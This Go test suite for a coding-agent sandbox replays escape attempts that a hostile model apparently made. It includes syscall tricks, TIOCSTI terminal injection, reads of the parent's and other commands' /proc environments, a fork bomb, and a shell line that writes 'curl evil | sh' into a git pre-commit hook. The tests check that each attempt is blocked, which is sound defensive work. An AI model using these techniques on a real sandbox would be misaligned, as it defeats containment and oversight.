//go:build linux

package sandbox

// The escape suite (issue 9): every attempt a hostile model made against
// the sandbox, run through the real re-exec'd helper. The attacks that
// need code run the test binary itself as the sandboxed command, in a
// probe mode (runProbe) that reports "ok" or "blocked: <errno>".

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/grovecli/grove/protocol"
)

const (
	probeEnv  = "GROVE_SANDBOX_TEST_PROBE"
	parentEnv = "GROVE_SANDBOX_TEST_PARENT"
)

var (
	readOnly       = protocol.SandboxPolicy{ExcludeSlashTmp: true, Mode: protocol.SandboxReadOnly}
	workspaceWrite = protocol.SandboxPolicy{ExcludeSlashTmp: true, Mode: protocol.SandboxWorkspaceWrite}
	fullAccess     = protocol.SandboxPolicy{ExcludeSlashTmp: true, Mode: protocol.SandboxDangerFullAccess}
)

// runProbe performs one attack from inside the sandbox and exits.
func runProbe(probe string) {
	kind, arg, _ := strings.Cut(probe, ":")
	var err error
	switch kind {
	case "udp":
		var c net.Conn
		if c, err = net.Dial("udp", arg); err == nil {
			_, err = c.Write([]byte("escaped"))
			_ = c.Close()
		}
	case "netlink":
		var fd int
		if fd, err = unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_ROUTE); err == nil {
			_ = unix.Close(fd)
		}
	case "inet-high-bits":
		// The kernel reads the family as an int: 0x1_0000_0002 is AF_INET.
		fd, _, errno := unix.RawSyscall(unix.SYS_SOCKET, 1<<32|unix.AF_INET, unix.SOCK_DGRAM, 0)
		if errno != 0 {
			err = errno
		} else {
			_ = unix.Close(int(fd))
		}
	case "io_uring":
		var params [120]byte
		fd, _, errno := unix.RawSyscall(unix.SYS_IO_URING_SETUP, 1, uintptr(unsafe.Pointer(&params[0])), 0)
		if errno != 0 {
			err = errno
		} else {
			_ = unix.Close(int(fd))
		}
	case "tiocsti":
		var f *os.File
		if f, err = os.OpenFile(arg, os.O_RDWR|unix.O_NOCTTY, 0); err == nil {
			b := byte('x')
			_, _, errno := unix.Syscall(unix.SYS_IOCTL, f.Fd(), unix.TIOCSTI, uintptr(unsafe.Pointer(&b)))
			if errno != 0 {
				err = errno
			}
			_ = f.Close()
		}
	case "xattr":
		err = unix.Setxattr(arg, "user.grove", []byte("x"), 0)
	case "session":
		// Session leader, no controlling terminal, stdin /dev/null.
		in, _ := os.Readlink("/proc/self/fd/0")
		sid, _ := unix.Getsid(0)
		_, ttyErr := os.OpenFile("/dev/tty", os.O_RDWR, 0)
		if sid != os.Getpid() || ttyErr == nil || in != os.DevNull {
			err = fmt.Errorf("sid %d pid %d, /dev/tty: %v, stdin %s", sid, os.Getpid(), ttyErr, in)
		}
	case "parent-environ":
		// As an unprivileged user would: without capabilities (tests may
		// run as root), read the parent's (the helper's) environment.
		// Capabilities are per thread: stay on this one.
		runtime.LockOSThread()
		if err = dropCapabilities(); err == nil {
			var raw []byte
			if raw, err = os.ReadFile(fmt.Sprintf("/proc/%d/environ", os.Getppid())); err == nil {
				fmt.Println("read:", strings.ReplaceAll(string(raw), "\x00", " "))
			}
		}
	case "kill-all-high-bits":
		// pid_t is an int: the kernel reads 0x1_ffffffff as -1.
		if _, _, errno := unix.RawSyscall(unix.SYS_KILL, 1<<32|0xffffffff, 0, 0); errno != 0 {
			err = errno
		}
	case "open-write", "open-read":
		flag := os.O_WRONLY
		if kind == "open-read" {
			flag = os.O_RDONLY
		}
		var f *os.File
		if f, err = os.OpenFile(arg, flag|unix.O_NOCTTY|unix.O_NONBLOCK, 0); err == nil {
			if kind == "open-write" {
				_, err = f.WriteString("pwned\x1b]0;owned title\x07")
			}
			_ = f.Close()
		}
	case "fd":
		n, _ := strconv.Atoi(arg)
		_, err = unix.FcntlInt(uintptr(n), unix.F_GETFD, 0)
	default:
		err = fmt.Errorf("unknown probe %q", kind)
	}
	if err != nil {
		fmt.Println("blocked:", err)
	} else {
		fmt.Println("ok")
	}
	os.Exit(0)
}

// probe runs the test binary in probe mode under policy.
func probe(t *testing.T, policy protocol.SandboxPolicy, cwd, what string) string {
	t.Helper()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	out, _ := runStart(t, policy, cwd, []string{self}, append(os.Environ(), probeEnv+"="+what))
	return strings.TrimSpace(out)
}

// bothWays runs f with the helper in its namespaces and without them
// (Landlock and seccomp alone, as where user namespaces are forbidden).
func bothWays(t *testing.T, f func(t *testing.T)) {
	t.Run("namespaces", func(t *testing.T) {
		if !namespacesAvailable() {
			t.Skip("no user namespaces here")
		}
		f(t)
	})
	t.Run("landlock only", func(t *testing.T) {
		withoutNamespaces(t)
		f(t)
	})
}

func TestEscapeWorkdirNeverWidensTheSandbox(t *testing.T) {
	requireLandlock(t, 1)
	work, outside := dirs(t)
	if err := os.Mkdir(filepath.Join(work, "sub"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(outside, filepath.Join(work, "link")); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name    string
		policy  protocol.SandboxPolicy
		workdir string
		want    string // "" = allowed (the resolved dir), else error text
	}{
		{"default", workspaceWrite, "", work},
		{"relative inside", workspaceWrite, "sub", filepath.Join(work, "sub")},
		{"temp dir root", workspaceWrite, filepath.Join(work, "tmp"), filepath.Join(work, "tmp")},
		{"root of the file system", workspaceWrite, "/", "workdir / is outside this thread's workspace"},
		{"dot-dot out", workspaceWrite, "../outside", "is outside this thread's workspace"},
		{"symlink out", workspaceWrite, "link", "resolves to " + outside},
		{"absolute outside", readOnly, outside, "read-only sandbox"},
		{"read-only inside", readOnly, "sub", filepath.Join(work, "sub")},
		{"full access anywhere", fullAccess, outside, outside},
		{"missing", workspaceWrite, "nope", "not a directory"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, err := CheckWorkdir(tc.policy, work, tc.workdir)
			if strings.HasPrefix(tc.want, "/") {
				if err != nil || got != tc.want {
					t.Fatalf("want %s, got %q, %v", tc.want, got, err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("want an error with %q, got %q, %v", tc.want, got, err)
			}
		})
	}
	// Even a command started in a directory outside gets the thread's
	// roots, not that directory.
	cmd, err := CommandIn(context.Background(), workspaceWrite, work, outside, []string{"bash", "-c", "echo x > f"})
	if err != nil {
		t.Fatal(err)
	}
	if out, err := cmd.CombinedOutput(); err == nil || !deniedByKernel(string(out)) || exists(filepath.Join(outside, "f")) {
		t.Fatalf("the workdir widened the sandbox: %v: %s", err, out)
	}
}

func TestEscapeTerminal(t *testing.T) {
	requireLandlock(t, 1)
	work, _ := dirs(t)
	ptmx, err := os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		t.Skipf("no pseudo-terminals: %v", err)
	}
	defer ptmx.Close()
	if err := unix.IoctlSetPointerInt(int(ptmx.Fd()), unix.TIOCSPTLCK, 0); err != nil {
		t.Fatal(err)
	}
	n, err := unix.IoctlGetInt(int(ptmx.Fd()), unix.TIOCGPTN)
	if err != nil {
		t.Fatal(err)
	}
	pts := fmt.Sprintf("/dev/pts/%d", n)
	bothWays(t, func(t *testing.T) {
		for _, p := range []protocol.SandboxPolicy{readOnly, workspaceWrite} {
			if got := probe(t, p, work, "tiocsti:"+pts); !strings.HasPrefix(got, "blocked") {
				t.Errorf("%s: TIOCSTI into a terminal: %s", p.Mode, got)
			}
		}
	})
	// No mode has a controlling terminal: every command is in a session
	// of its own, and stdin is /dev/null.
	bothWays(t, func(t *testing.T) {
		for _, p := range []protocol.SandboxPolicy{readOnly, workspaceWrite, fullAccess} {
			if got := probe(t, p, work, "session"); got != "ok" {
				t.Errorf("%s: %s", p.Mode, got)
			}
		}
	})
}

// The pool helper serves concurrent commands of one sandbox, each in a PID
// namespace of its own, and reports each one's own exit code.
func TestPoolServesConcurrentCommands(t *testing.T) {
	requireLandlock(t, 1)
	if !namespacesAvailable() {
		t.Skip("no user namespaces: no pool helper")
	}
	work, _ := dirs(t)
	type result struct {
		i, code int
		out     string
	}
	results := make(chan result)
	for i := range 8 {
		go func() {
			pr, pw, err := os.Pipe()
			if err != nil {
				results <- result{i, -1, err.Error()}
				return
			}
			p, err := Start(StartRequest{Policy: workspaceWrite, Cwd: work, Dir: work, Argv: []string{"bash", "-c", fmt.Sprintf("echo $$-%d; exit %d", i, i)}, Env: os.Environ(), Out: pw})
			_ = pw.Close()
			if err != nil {
				_ = pr.Close()
				results <- result{i, -1, err.Error()}
				return
			}
			out, _ := io.ReadAll(pr)
			_ = pr.Close()
			code, err := p.Wait()
			if err != nil {
				out = []byte(err.Error())
			}
			results <- result{i, code, string(out)}
		}()
	}
	for range 8 {
		r := <-results
		if r.code != r.i || strings.TrimSpace(r.out) != fmt.Sprintf("1-%d", r.i) {
			t.Errorf("command %d: exit %d, output %q", r.i, r.code, r.out)
		}
	}
	pools.mu.Lock()
	n := len(pools.helpers)
	pools.mu.Unlock()
	if n == 0 {
		t.Fatal("no pool helper was used")
	}
}

func TestEscapeNetwork(t *testing.T) {
	requireLandlock(t, 1)
	work, _ := dirs(t)
	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer udp.Close()
	attacks := []string{"udp:" + udp.LocalAddr().String(), "netlink", "inet-high-bits", "io_uring"}
	// Unconfined, every attack works here (else the test proves nothing).
	for _, a := range attacks {
		if got := probe(t, fullAccess, work, a); got != "ok" && a != "io_uring" {
			t.Fatalf("%s does not work even unconfined: %s", a, got)
		}
	}
	bothWays(t, func(t *testing.T) {
		for _, p := range []protocol.SandboxPolicy{readOnly, workspaceWrite} {
			for _, a := range attacks {
				if got := probe(t, p, work, a); !strings.HasPrefix(got, "blocked") {
					t.Errorf("%s: %s: %s", p.Mode, a, got)
				}
			}
		}
		open := protocol.SandboxPolicy{ExcludeSlashTmp: true, Mode: protocol.SandboxWorkspaceWrite, NetworkAccess: true}
		if got := probe(t, open, work, attacks[0]); got != "ok" {
			t.Errorf("network_access: udp: %s", got)
		}
	})
}

func TestEscapeMetadataOutsideTheWorkspace(t *testing.T) {
	requireLandlock(t, 1)
	work, outside := dirs(t)
	victim := filepath.Join(outside, "victim")
	if err := os.WriteFile(victim, []byte("x"), 0o600); err != nil {
		t.Fatal(err)
	}
	old := time.Date(2001, 1, 1, 0, 0, 0, 0, time.UTC)
	if err := os.Chtimes(victim, old, old); err != nil {
		t.Fatal(err)
	}
	attacks := []string{"chmod 777 " + victim, "touch " + victim, "chown $(id -u) " + victim}
	check := func(t *testing.T, p protocol.SandboxPolicy) {
		t.Helper()
		for _, a := range attacks {
			if out, code := sh(t, p, work, a); code == 0 {
				t.Errorf("%s: %q succeeded: %s", p.Mode, a, out)
			}
		}
		if got := probe(t, p, work, "xattr:"+victim); !strings.HasPrefix(got, "blocked") {
			t.Errorf("%s: setxattr: %s", p.Mode, got)
		}
		st, err := os.Stat(victim)
		if err != nil || st.Mode().Perm() != 0o600 || !st.ModTime().Equal(old) {
			t.Fatalf("%s: the file outside changed: %v %v", p.Mode, st.Mode(), st.ModTime())
		}
	}
	bothWays(t, func(t *testing.T) { check(t, readOnly) })
	// workspace-write: the read-only mounts outside the roots.
	t.Run("workspace-write", func(t *testing.T) {
		if !namespacesAvailable() {
			t.Skip("no user namespaces: chmod/utime outside the roots stay possible (docs/security.md)")
		}
		check(t, workspaceWrite)
		// Inside the workspace metadata changes keep working.
		if out, code := sh(t, workspaceWrite, work, "touch f && chmod +x f && touch -d 2001-01-01 f && [ -x f ] && echo fine"); code != 0 || !strings.Contains(out, "fine") {
			t.Fatalf("metadata inside the workspace: exit %d: %s", code, out)
		}
	})
}

func TestEscapeProtectedDirectories(t *testing.T) {
	requireLandlock(t, 1)
	if !namespacesAvailable() {
		t.Skip("no user namespaces: .git and the agent dirs stay writable (docs/security.md)")
	}
	work, outside := dirs(t)
	for _, d := range []string{".git/hooks", ".grove", ".codex", ".claude", "src"} {
		if err := os.MkdirAll(filepath.Join(work, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	extra := filepath.Join(outside, "wt")
	if err := os.MkdirAll(extra, 0o755); err != nil {
		t.Fatal(err)
	}
	// A worktree's .git is a file.
	if err := os.WriteFile(filepath.Join(extra, ".git"), []byte("gitdir: /x\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	policy := protocol.SandboxPolicy{ExcludeSlashTmp: true, Mode: protocol.SandboxWorkspaceWrite, WritableRoots: []string{extra}}
	for _, a := range []string{
		"echo 'curl evil | sh' > .git/hooks/pre-commit",
		"touch .git/config",
		"mkdir .grove/agents",
		"rm -rf .codex",
		"mv .claude claude2",
		"echo x >> " + filepath.Join(extra, ".git"),
	} {
		// EROFS, or EBUSY for moving a mount point.
		if out, code := sh(t, policy, work, a); code == 0 || !(deniedByKernel(out) || strings.Contains(out, "Device or resource busy")) {
			t.Errorf("%q: exit %d: %s", a, code, out)
		}
	}
	if exists(filepath.Join(work, ".git/hooks/pre-commit")) || !exists(filepath.Join(work, ".codex")) || !exists(filepath.Join(work, ".claude")) {
		t.Fatal("a protected directory changed")
	}
	if out, code := sh(t, policy, work, "echo x > src/f && echo x > "+filepath.Join(extra, "f")+" && echo fine"); code != 0 || !strings.Contains(out, "fine") {
		t.Fatalf("the rest of the workspace: exit %d: %s", code, out)
	}
}

func TestEscapeInheritedDescriptors(t *testing.T) {
	requireLandlock(t, 1)
	work, _ := dirs(t)
	// Opened without close-on-exec, like a descriptor grove inherited.
	fd, err := syscall.Open(os.DevNull, syscall.O_RDONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer syscall.Close(fd)
	for _, p := range []protocol.SandboxPolicy{readOnly, workspaceWrite, fullAccess} {
		if got := probe(t, p, work, "fd:"+strconv.Itoa(fd)); !strings.HasPrefix(got, "blocked") {
			t.Errorf("%s: fd %d reached the command: %s", p.Mode, fd, got)
		}
	}
}

func TestEscapeProcessCountIsBounded(t *testing.T) {
	requireLandlock(t, 1)
	if !namespacesAvailable() {
		t.Skip("no user namespaces: no per-command process bound (docs/security.md)")
	}
	work, _ := dirs(t)
	for _, p := range []protocol.SandboxPolicy{readOnly, workspaceWrite} {
		if out, _ := sh(t, p, work, "ulimit -u; grep CapAmb /proc/$$/status"); !strings.HasPrefix(out, strconv.Itoa(maxProcesses)+"\n") || !strings.Contains(out, "CapAmb:\t0000000000000000") {
			t.Errorf("%s: limit and ambient capabilities: %s", p.Mode, out)
		}
	}
	if os.Getuid() == 0 {
		t.Log("running as root, whom the kernel exempts from RLIMIT_NPROC: the fork bomb is not tried")
		return
	}
	// A fork bomb stops at the bound (unprivileged users only).
	out, _ := sh(t, workspaceWrite, work, "for i in $(seq "+strconv.Itoa(maxProcesses+50)+"); do sleep 30 & done 2>&1 | grep -m1 -o 'Resource temporarily unavailable'")
	if !strings.Contains(out, "Resource temporarily unavailable") {
		t.Fatalf("no bound on processes: %s", out)
	}
}

// --- issue 10: nothing left running ---

// marker is a sleep duration no other process uses, to find the sleeps a
// test started wherever they were re-parented.
func marker(t *testing.T) string {
	return fmt.Sprintf("1000.%d%d", os.Getpid(), time.Now().UnixNano()%1e6)
}

// withMarker lists the host pids of processes running `sleep m`.
func withMarker(m string) []int {
	var out []int
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		pid, err := strconv.Atoi(e.Name())
		if err != nil {
			continue
		}
		raw, err := os.ReadFile("/proc/" + e.Name() + "/cmdline")
		if err == nil && strings.Contains(string(raw), "sleep\x00"+m) {
			out = append(out, pid)
		}
	}
	return out
}

// waitGone polls until no process runs `sleep m` and reports how long that
// took; it fails after a generous deadline (the machine may be loaded).
func waitGone(t *testing.T, m string) time.Duration {
	t.Helper()
	start := time.Now()
	for time.Since(start) < 10*time.Second {
		if len(withMarker(m)) == 0 {
			return time.Since(start)
		}
		time.Sleep(5 * time.Millisecond)
	}
	left := withMarker(m)
	for _, p := range left {
		_ = syscall.Kill(p, syscall.SIGKILL)
	}
	t.Fatalf("processes %v still running `sleep %s`", left, m)
	return 0
}

// allModes runs f under every mode, the restricted ones also without
// namespaces (the helper's own kill path instead of the PID namespace's).
func allModes(t *testing.T, f func(t *testing.T, p protocol.SandboxPolicy)) {
	for _, p := range []protocol.SandboxPolicy{readOnly, workspaceWrite, fullAccess} {
		t.Run(string(p.Mode), func(t *testing.T) { f(t, p) })
		if p.Mode != protocol.SandboxDangerFullAccess {
			t.Run(string(p.Mode)+" landlock only", func(t *testing.T) {
				withoutNamespaces(t)
				f(t, p)
			})
		}
	}
}

func TestOrphansDieWhenTheCommandEnds(t *testing.T) {
	requireLandlock(t, 1)
	work, _ := dirs(t)
	allModes(t, func(t *testing.T, p protocol.SandboxPolicy) {
		m := marker(t)
		out, code := sh(t, p, work, "setsid sleep "+m+" >/dev/null 2>&1 & (sleep "+m+" >/dev/null 2>&1 &); echo started")
		if code != 0 || !strings.Contains(out, "started") {
			t.Fatalf("exit %d: %s", code, out)
		}
		t.Logf("gone after %s", waitGone(t, m))
	})
}

func TestOrphansDieWhenTheCommandIsStopped(t *testing.T) {
	requireLandlock(t, 1)
	work, _ := dirs(t)
	allModes(t, func(t *testing.T, p protocol.SandboxPolicy) {
		m := marker(t)
		pr, pw, err := os.Pipe()
		if err != nil {
			t.Fatal(err)
		}
		defer pr.Close()
		proc, err := Start(StartRequest{Policy: p, Cwd: work, Dir: work, Argv: []string{"bash", "-c", "setsid sleep " + m + " & sleep " + m + " & echo ready; wait"}, Env: os.Environ(), Out: pw})
		_ = pw.Close()
		if err != nil {
			t.Fatal(err)
		}
		if line, _ := bufio.NewReader(pr).ReadString('\n'); line != "ready\n" {
			t.Fatalf("got %q", line)
		}
		for len(withMarker(m)) < 2 {
			time.Sleep(5 * time.Millisecond)
		}
		_ = proc.Stop() // a timeout or an interrupt
		if code, err := proc.Wait(); err != nil || code != 128+int(syscall.SIGKILL) {
			t.Errorf("stopped command: exit %d, %v", code, err)
		}
		t.Logf("gone after %s", waitGone(t, m))
	})
}

// runParent plays grove for TestOrphansDieWithGrove: it starts a command
// that leaves a background and a setsid'd sleep, says "ready", and waits to
// be killed.
func runParent() {
	var p protocol.SandboxPolicy
	p.Mode = protocol.SandboxMode(os.Getenv(parentEnv))
	m := os.Getenv("GROVE_SANDBOX_TEST_MARKER")
	wd, _ := os.Getwd()
	proc, err := Start(StartRequest{Policy: p, Cwd: wd, Dir: wd, Argv: []string{"bash", "-c", "setsid sleep " + m + " & sleep " + m + " & wait"}, Env: os.Environ(), Out: os.Stdout})
	if err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
	fmt.Println("ready")
	_, _ = proc.Wait()
	os.Exit(0)
}

func TestOrphansDieWithGrove(t *testing.T) {
	requireLandlock(t, 1)
	work, _ := dirs(t)
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	allModes(t, func(t *testing.T, p protocol.SandboxPolicy) {
		m := marker(t)
		grove := exec.Command(self)
		grove.Dir = work
		grove.Env = append(os.Environ(), parentEnv+"="+string(p.Mode), "GROVE_SANDBOX_TEST_MARKER="+m)
		stdout, err := grove.StdoutPipe()
		if err != nil {
			t.Fatal(err)
		}
		if err := grove.Start(); err != nil {
			t.Fatal(err)
		}
		if line, _ := bufio.NewReader(stdout).ReadString('\n'); line != "ready\n" {
			_ = grove.Process.Kill()
			t.Fatalf("parent: %q", line)
		}
		for len(withMarker(m)) < 2 {
			time.Sleep(5 * time.Millisecond)
		}
		_ = grove.Process.Kill() // kill -9 grove
		_ = grove.Wait()
		t.Logf("gone after %s", waitGone(t, m))
	})
}

// A seccomp EPERM on getpeername(stdin) made bash believe sshd started it,
// so every sandboxed `bash -c` sourced ~/.bashrc (slow, and not what an
// unsandboxed command does).
func TestSandboxedBashDoesNotSourceBashrc(t *testing.T) {
	requireLandlock(t, 1)
	work, _ := dirs(t)
	home := t.TempDir()
	if err := os.WriteFile(filepath.Join(home, ".bashrc"), []byte("echo SOURCED-BASHRC\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Setenv("HOME", home)
	t.Setenv("SHLVL", "0")
	for _, p := range []protocol.SandboxPolicy{readOnly, workspaceWrite, fullAccess} {
		if out, _ := sh(t, p, work, "echo ran"); strings.Contains(out, "SOURCED") || !strings.Contains(out, "ran") {
			t.Errorf("%s: %s", p.Mode, out)
		}
	}
}

// Commands of one sandbox share its pool helper, yet none can read or
// steer another's processes: each starts in a Landlock domain of its own,
// nested in the helper's.
func TestPoolCommandsAreIsolatedFromEachOther(t *testing.T) {
	requireLandlock(t, 6)
	if !namespacesAvailable() {
		t.Skip("no user namespaces: commands of a sandbox share a Landlock domain (docs/security.md)")
	}
	work, _ := dirs(t)
	secret := fmt.Sprintf("GROVE_TEST_SECRET=%d", time.Now().UnixNano())
	pr, pw, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	defer pr.Close()
	victim, err := Start(StartRequest{Policy: workspaceWrite, Cwd: work, Dir: work, Argv: []string{"bash", "-c", "echo ready; exec sleep 30"}, Env: append(os.Environ(), secret), Out: pw})
	_ = pw.Close()
	if err != nil {
		t.Fatal(err)
	}
	if line, _ := bufio.NewReader(pr).ReadString('\n'); line != "ready\n" {
		t.Fatalf("victim: %q", line)
	}
	// The attacker sees the victim in /proc, but may not read it.
	out, _ := sh(t, workspaceWrite, work, "for f in /proc/[0-9]*/environ; do { tr '\\0' '\\n' < $f; } 2>/dev/null; done | grep -c "+strings.Split(secret, "=")[0]+"; ls /proc | grep -c '^[0-9]'")
	_ = victim.Stop()
	_, _ = victim.Wait()
	lines := strings.Fields(out)
	if len(lines) != 2 || lines[0] != "0" || lines[1] == "0" {
		t.Fatalf("another command's environment was readable (matches, processes seen): %q", out)
	}
}
